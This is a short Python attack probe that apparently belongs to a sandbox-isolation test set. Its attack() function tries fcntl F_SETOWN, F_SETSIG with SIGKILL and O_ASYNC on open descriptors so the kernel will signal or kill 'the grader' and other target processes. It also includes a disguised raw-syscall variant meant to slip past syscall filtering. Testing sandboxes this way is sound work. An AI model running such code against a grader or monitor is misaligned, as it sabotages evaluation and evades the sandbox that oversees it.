"""neighbours: lets the kernel send signals to the grader by F_SETOWN, F_SETSIG and O_ASYNC"""
import ctypes
import fcntl
import os


def attack():
    libc = ctypes.CDLL(None)
    found = []
    for fd in range(64):
        for pid in [os.getppid(), *TARGET["pids"]]:
            for command, argument in ((8, pid), (10, 9), (15, 0), (1024, 1), (1031, 1 << 20), (1033, 1)):
                try:
                    fcntl.fcntl(fd, command, argument)
                    found.append((fd, command, pid))
                except (OSError, OverflowError):
                    pass
        if libc.syscall(72, fd, ctypes.c_uint64(8 | 1 << 32), TARGET["pids"][0]) == 0:
            found.append((fd, "dressed-up F_SETOWN"))
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)
            found.append((fd, "O_ASYNC"))
        except OSError:
            pass
    return found
